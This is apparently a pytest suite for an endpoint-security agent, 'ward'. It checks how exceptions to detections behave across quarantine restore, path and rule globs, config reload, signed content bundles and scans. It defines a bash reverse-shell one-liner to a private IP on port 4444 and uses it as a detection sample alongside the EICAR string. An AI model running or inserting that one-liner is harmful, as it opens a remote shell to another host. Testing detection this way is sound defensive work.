"""
Exceptions to verdicts, as an operator meets a false positive: on-access
blocks a file; `ward quarantine restore` puts it back and says how to
except it; `ward agent except add` (as it says) lets it open; removing the
exception blocks it again.  Then every other source — wardd.yaml path and
rule globs, a content `exceptions` member, `ward agent scan --format json
--quarantine` — and what each refuses.  Every test mounts a tmpfs of its
own and gives only that to the agent.
"""

import hashlib
import json
import os
import shlex
import shutil
import signal
import stat
import subprocess
import time

import pytest

from agentlib import (DEFAULT_SRC, EICAR_RULE, assemble, key_id, manifest_for, onaccess_box,
                      openssl_sign, read_journal, wait_events, wardd_path)
from conftest import EICAR

EICAR_SHA = hashlib.sha256(EICAR).hexdigest()
REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"


@pytest.fixture
def box(ward, tmp_path):
    with onaccess_box(ward, tmp_path, "exception") as b:
        yield b


def events(a, action):
    return [e for _, e in read_journal(a.state) if e["event"]["action"] == action]


def events_of(a, action, path, timeout=5):
    """The journal's events of that action for path, once there is one: an
    access is answered first and journaled just after, so a test that has
    seen the answer waits for the event."""
    end = time.time() + timeout
    while True:
        evs = [e for e in events(a, action) if e["file"]["path"] == path]
        if evs or time.time() > end:
            return evs
        time.sleep(0.05)


def opens(path):
    """True if the file opens (and reads), False if the agent denies it."""
    try:
        with open(path, "rb") as f:
            f.read()
        return True
    except PermissionError:
        return False


def write_exec(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, 0o755)
    return path


def runs(path):
    """True if path executes, False if the exec is denied (EPERM)."""
    p = subprocess.run(["/bin/sh", "-c", 'exec "$0"', path], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=10)
    if p.returncode == 126 and b"Operation not permitted" in p.stderr:
        return False
    return True


def test_restore_then_except_as_restore_says(box):
    """The user's path: a download is quarantined; restored, it is still
    denied on open; the command `ward quarantine restore` prints excepts it,
    and the file opens; removing the exception denies it again."""
    downloads = os.path.join(box.mnt, "downloads")
    os.makedirs(downloads)
    a = box.agent(onaccess=["  on_write: quarantine", "  block_open: [%s]" % downloads])
    target = os.path.join(downloads, "eicar.com")
    with open(target, "wb") as f:
        f.write(EICAR)
    qid = wait_events(a, "file-quarantined")[-1]["ward"]["quarantine"]["id"]
    assert not os.path.exists(target)
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "restore", qid)
    assert p.returncode == 0, p.stderr
    assert p.stdout == "restored %s\n" % target
    # Restored, and still detected: the open is denied.
    assert not opens(target)
    assert wait_events(a, "file-open-denied")[-1]["file"]["path"] == target
    # restore said how to except it: exactly one command, with the hash.
    cmds = [line.strip() for line in p.stderr.splitlines()
            if line.strip().startswith("ward agent")]
    assert len(cmds) == 1, p.stderr
    argv = shlex.split(cmds[0])
    assert argv[argv.index("--sha256") + 1] == EICAR_SHA, cmds[0]
    q = box.ward.run(*argv[1:])
    assert q.returncode == 0, q.stderr
    assert q.stdout == "added exception local:1: sha256:%s\n" % EICAR_SHA
    # The file opens now; the suppressed verdict is journaled with the
    # exception that applied.
    assert opens(target)
    ev = wait_events(a, "detection-excepted")[-1]
    assert ev["file"]["path"] == target
    assert ev["ward"]["exception"]["source"] == "local" and ev["ward"]["exception"]["id"] == 1
    assert ev["ward"]["exception"]["match"] == "sha256:" + EICAR_SHA
    assert ev["ward"]["exception"]["suppressed"] == "deny-open"
    assert ev["ward"]["exception"]["reason"] == "restored from quarantine " + qid
    added = events(a, "exception-added")
    assert len(added) == 1 and added[0]["ward"]["exception"]["source"] == "local"
    st = a.status()
    assert st["exceptions"]["local"] == 1 and st["exceptions"]["suppressed"] >= 1
    assert st["sensors"]["onaccess"]["counters"]["excepted"] >= 1
    p = a.agent("status")
    assert "exceptions:      1 local" in p.stdout, p.stdout
    # Written again: scanned, excepted, not quarantined.
    with open(target, "wb") as f:
        f.write(EICAR)
    ev = wait_events(a, "detection-excepted", 2)[-1]
    assert ev["ward"]["exception"]["suppressed"] == "quarantine"
    time.sleep(0.3)
    assert os.path.exists(target) and not events(a, "file-quarantined")[1:]
    # Kept on disk, root's only, and listed.
    kept = os.path.join(a.state, "exceptions.json")
    assert stat.S_IMODE(os.stat(kept).st_mode) == 0o600
    p = a.agent("except", "list", "--json")
    assert p.returncode == 0, p.stderr
    listed = json.loads(p.stdout)["exceptions"]
    assert [(e["source"], e["id"], e["sha256"]) for e in listed] == [("local", 1, EICAR_SHA)]
    # Removed: denied again (no verdict or kernel mark of before is used).
    p = a.agent("except", "remove", "1")
    assert p.returncode == 0 and p.stdout.startswith("removed exception local:1"), p.stderr
    assert not opens(target)
    assert events(a, "exception-removed")[0]["ward"]["exception"]["id"] == 1
    p = a.agent("except", "remove", "1")
    assert p.returncode == 2 and "no local exception 1" in p.stderr


def test_restore_except_flag_and_persistence(box):
    """`restore --except` adds the exception itself; it survives a restart
    of the agent; a damaged exceptions file is never half-trusted."""
    downloads = os.path.join(box.mnt, "downloads")
    os.makedirs(downloads)
    a = box.agent(onaccess=["  on_write: quarantine", "  block_open: [%s]" % downloads])
    target = os.path.join(downloads, "eicar.com")
    with open(target, "wb") as f:
        f.write(EICAR)
    qid = wait_events(a, "file-quarantined")[-1]["ward"]["quarantine"]["id"]
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "restore", qid,
                     "--except")
    assert p.returncode == 0, p.stderr
    assert p.stdout == "restored %s\nadded exception local:1: sha256:%s\n" % (target, EICAR_SHA)
    assert opens(target)
    a.stop()
    a.start()
    assert a.status()["exceptions"]["local"] == 1
    assert opens(target)
    # Twice the same: refused, naming the one there is.
    p = a.agent("except", "add", "--sha256", EICAR_SHA.upper())
    assert p.returncode == 2 and "already excepted: local:1" in p.stderr
    # A damaged file: the agent starts, says so, excepts nothing from it,
    # and refuses to overwrite it.
    a.stop()
    kept = os.path.join(a.state, "exceptions.json")
    with open(kept, "w") as f:
        f.write('{"next_id": 2, "exceptions": [{"id": 1, "sha256": "%s", "x": 1}]}' % EICAR_SHA)
    a.start()
    st = a.status()["exceptions"]
    assert st["local"] == 0 and "unknown key" in st["local_error"], st
    assert not opens(target)
    p = a.agent("except", "add", "--path", "/nowhere/**")
    assert p.returncode == 2 and "exceptions.json" in p.stderr
    assert '"x": 1' in open(kept).read()


def test_path_and_rule_exceptions(box):
    """wardd.yaml excepts a tree by path glob; `except add --rule R --path
    G` excepts one rule under a tree.  A file another rule matches stays
    denied, and so does the same file elsewhere."""
    vendor = os.path.join(box.mnt, "vendor")
    scripts = os.path.join(box.mnt, "scripts")
    a = box.agent(extra=["exceptions:", "  - 'path:%s/**/bin/*'" % vendor])
    in_vendor = write_exec(os.path.join(vendor, "a", "b", "bin", "tool"), REVSHELL)
    not_bin = write_exec(os.path.join(vendor, "a", "tool"), REVSHELL)
    in_scripts = write_exec(os.path.join(scripts, "deep", "run.sh"), REVSHELL)
    elsewhere = write_exec(os.path.join(box.mnt, "run.sh"), REVSHELL)
    both = write_exec(os.path.join(scripts, "both.com"), EICAR + b"\n" + REVSHELL)
    assert runs(in_vendor)
    assert not runs(not_bin)
    assert not runs(in_scripts)
    p = a.agent("except", "add", "--rule", "Reverse_Shell_Oneliner", "--path", scripts + "/**",
                "--reason", "admin scripts, ticket 4711")
    assert p.returncode == 0, p.stderr
    assert p.stdout == "added exception local:1: rule:Reverse_Shell_Oneliner path:%s/**\n" % scripts
    assert runs(in_scripts)
    assert not runs(elsewhere)
    assert not runs(both)  # EICAR_Test_File matched too: not excepted
    denied = events_of(a, "file-execution-denied", both)
    assert denied and denied[-1]["rule"]["name"] == "EICAR_Test_File"
    assert events_of(a, "detection-excepted", in_vendor)
    assert events_of(a, "detection-excepted", in_scripts)
    by = {e["file"]["path"]: e["ward"]["exception"] for e in events(a, "detection-excepted")}
    assert by[in_vendor]["source"] == "config" and by[in_vendor]["id"] == 1
    assert by[in_scripts]["source"] == "local" and by[in_scripts]["reason"] == "admin scripts, ticket 4711"
    assert by[in_scripts]["suppressed"] == "deny-execution"
    p = a.agent("except", "list")
    assert "config       1  path:%s/**/bin/*" % vendor in p.stdout, p.stdout
    # What is not the agent's to remove says where it is.
    p = a.agent("except", "remove", "config:1")
    assert p.returncode == 2 and "wardd.yaml" in p.stderr
    # Malformed requests are refused by the agent's parser.
    for args, why in ((["--path", "relative/x"], "absolute"),
                      (["--path", "/a/b**"], "component of its own"),
                      (["--sha256", "1234"], "64 hexadecimal"),
                      (["--rule", "R", "--path", "/a/../b"], ".."),
                      (["--rule", "R\x01"], "printable"),
                      (["--sha256", EICAR_SHA, "--reason", "x" * 300], "at most 256")):
        p = a.agent("except", "add", *args)
        assert p.returncode == 2 and why in p.stderr, (args, p.stderr)
    assert a.status()["exceptions"]["local"] == 1


def test_reload_changes_config_exceptions(box):
    """An exception added to wardd.yaml and reloaded (SIGHUP, as
    `systemctl reload wardd` sends) lets the file open, without a restart;
    taken out and reloaded, the file is denied again.  Each change is
    journaled."""
    a = box.agent(onaccess=["  block_open: [%s]" % box.mnt])
    target = os.path.join(box.mnt, "eicar.com")
    with open(target, "wb") as f:
        f.write(EICAR)
    assert not opens(target)
    pid = a.status()["pid"]

    def reload(extra):
        n = open(a.log, "rb").read().count(b"the new configuration is in force")
        text = open(a.config).read().split("exceptions:")[0]
        with open(a.config, "w") as f:
            f.write(text + "".join(line + "\n" for line in extra))
        os.kill(a.proc.pid, signal.SIGHUP)
        end = time.time() + 10
        while open(a.log, "rb").read().count(b"the new configuration is in force") == n:
            assert time.time() < end, open(a.log).read()
            time.sleep(0.05)

    reload(["exceptions:", "  - 'sha256:%s'" % EICAR_SHA])
    assert opens(target)
    ev = wait_events(a, "detection-excepted")[-1]
    assert ev["ward"]["exception"]["source"] == "config"
    assert ev["ward"]["exception"]["match"] == "sha256:" + EICAR_SHA
    added = events(a, "exception-added")
    assert [e["ward"]["exception"]["source"] for e in added] == ["config"]
    assert a.status()["exceptions"]["config"] == 1
    reload([])
    assert not opens(target)
    removed = events(a, "exception-removed")
    assert [e["ward"]["exception"]["match"] for e in removed] == ["sha256:" + EICAR_SHA]
    assert a.status()["exceptions"]["config"] == 0
    assert a.status()["pid"] == pid, "the worker was restarted: not a reload"


def test_bad_config_exceptions_refused(box):
    """A wardd.yaml exception that does not parse stops wardd at start,
    naming the entry — never a default silently kept."""
    for bad, why in (("'path:relative/**'", "absolute"), ("'rule:'", "rule name"),
                     ("'md5:abc'", "sha256:HEX"), ("'path:/a/b' \n  - 'path:/a/b'", "same")):
        a = box.agent(extra=["exceptions:", "  - %s" % bad], start=False)
        p = subprocess.run([wardd_path(), "--config", a.config, "--foreground"],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
        err = p.stderr.decode()
        assert p.returncode != 0 and "exceptions[" in err and why in err, (bad, err)


def content_with_exceptions(box, version, member):
    """The default content with an `exceptions` member, built and signed."""
    src = os.path.join(str(box.tmp), "src-v%d" % version)
    shutil.copytree(DEFAULT_SRC, src)
    manifest = json.load(open(os.path.join(src, "bundle.json")))
    manifest["version"] = version
    os.makedirs(os.path.join(src, "exceptions"))
    with open(os.path.join(src, "exceptions", "site.json"), "w") as f:
        f.write(member)
    manifest["exceptions"] = ["exceptions/site.json"]
    json.dump(manifest, open(os.path.join(src, "bundle.json"), "w"))
    out = os.path.join(str(box.tmp), "v%d.wbundle" % version)
    p = box.ward.run("content", "build", src, "-o", out)
    if p.returncode == 0:
        assert box.ward.run("content", "sign", out, "--key", box.rel[0]).returncode == 0
    return p, out


def test_content_exceptions_member(box):
    """A content team ships exceptions signed: an `exceptions` member is
    validated at build (and on the agent, by the same parser), applies
    once active, and goes with the content."""
    tools = os.path.join(box.mnt, "tools")
    a = box.agent()
    tool = write_exec(os.path.join(tools, "x", "net.sh"), REVSHELL)
    assert not runs(tool)
    member = json.dumps({"exceptions": [{"rule": "Reverse_Shell_Oneliner", "path": tools + "/**",
                                         "reason": "network test tools"}]})
    p, v2 = content_with_exceptions(box, 2, member)
    assert p.returncode == 0, p.stderr
    assert "1 exceptions; 6 tests passed" in p.stderr, p.stderr
    p = box.ward.run("content", "inspect", v2)
    assert "exceptions" in p.stdout
    p = a.apply(v2)
    assert p.returncode == 0, p.stderr
    assert runs(tool)
    ev = events_of(a, "detection-excepted", tool)[-1]
    assert ev["ward"]["exception"]["source"] == "content"
    added = events(a, "exception-added")
    assert [e["ward"]["exception"]["source"] for e in added] == ["content"]
    assert a.status()["exceptions"]["content"] == 1
    # Refused at build, with the member's name and why.
    for bad, why in (('{"exceptions": [{"path": "tools/**"}]}', "absolute"),
                     ('{"exceptions": [{"rule": "R", "id": 3}]}', "unknown key"),
                     ('{"exceptions": [{"rule": "R"}, {"rule": "R"}]}', "same exception"),
                     ('{"exception": []}', "exceptions member"),
                     ('{"exceptions": [' + ",".join(['{"rule": "R%d"}' % i for i in range(1025)]) +
                      ']}', "WARD_MAX_EXCEPTIONS")):
        p, _ = content_with_exceptions(box, 10 + len(os.listdir(str(box.tmp))), bad)
        assert p.returncode == 2 and "exceptions/site.json" in p.stderr and why in p.stderr, (
            bad[:80], p.stderr)
    # A signed bundle whose member skipped the build's checks is refused by
    # the agent's validator, and the content in use stays.
    bad = json.dumps({"exceptions": [{"path": "/**", "extra": True}]}).encode()
    files = [("rules/r.yar", "yara", EICAR_RULE), ("exceptions/x.json", "exceptions", bad),
             ("tests/eicar.com", "sample", EICAR)]
    m = json.dumps(manifest_for(files, 3, [("tests/eicar.com", ["EICAR_Test_File"])])).encode()
    sig = (1, key_id(box.rel[1]), openssl_sign(box.rel[0], m, str(box.tmp)))
    v3 = os.path.join(str(box.tmp), "v3-crafted.wbundle")
    with open(v3, "wb") as f:
        f.write(assemble(m, [b for _, _, b in files], [sig]))
    p = a.apply(v3)
    assert p.returncode == 2 and "unknown key" in p.stderr, p.stderr
    assert a.status()["content"]["current"]["version"] == 2
    # New content without the member: its exception goes with it.
    p, v4 = content_with_exceptions(box, 4, '{"exceptions": []}')
    assert p.returncode == 0, p.stderr
    assert a.apply(v4).returncode == 0
    assert not runs(tool)
    removed = events(a, "exception-removed")
    assert removed and removed[-1]["ward"]["exception"]["source"] == "content"


def test_agent_scan_json_and_quarantine(box):
    """`ward agent scan --format json` shows what matched and what an
    exception suppressed (and with which); `--quarantine` moves what is
    found, never what is excepted."""
    a = box.agent()
    d = os.path.join(box.mnt, "scan")
    os.makedirs(os.path.join(d, "ok"))
    found = os.path.join(d, "eicar.com")
    kept = os.path.join(d, "ok", "eicar.com")
    for p in (found, kept):
        with open(p, "wb") as f:
            f.write(EICAR)
    assert a.agent("except", "add", "--path", os.path.join(d, "ok", "*")).returncode == 0
    p = a.agent("scan", d, "--format", "json")
    assert p.returncode == 1, p.stderr
    r = json.loads(p.stdout)
    assert r["files"] == 2 and r["match_count"] == 2 and r["excepted_count"] == 2
    assert {(m["path"], m["rule"]) for m in r["matches"]} == {
        (found, "EICAR_Test_File"), (found, "EICAR_Test_File_SHA256")}
    assert {x["path"] for x in r["excepted"]} == {kept}
    assert all(x["exception"]["source"] == "local" and x["exception"]["id"] == 1
               for x in r["excepted"])
    assert "quarantined_count" not in r
    p = a.agent("scan", d, "--quarantine")
    assert p.returncode == 1, p.stderr
    assert "moved into the quarantine as" in p.stderr and "excepted by local:1" in p.stderr
    assert not os.path.exists(found) and os.path.exists(kept)
    q = [e for e in events(a, "file-quarantined") if e["file"]["path"] == found]
    assert len(q) == 1 and q[0]["ward"]["scan"] == "agent-scan"
    p = box.ward.run("quarantine", "--state-dir", a.state, "--run-dir", a.run_dir, "list",
                     "--json")
    assert [e["path"] for e in json.loads(p.stdout)] == [found]
    # Nothing left but what is excepted: exit 0.
    p = a.agent("scan", d, "--format", "json", "--quarantine")
    assert p.returncode == 0, p.stderr
    r = json.loads(p.stdout)
    assert r["match_count"] == 0 and r["quarantined_count"] == 0 and r["excepted_count"] == 2
    # Options belong to their subcommand.
    assert a.agent("status", "--quarantine").returncode == 2
    assert a.agent("scan", d, "--format", "xml").returncode == 2
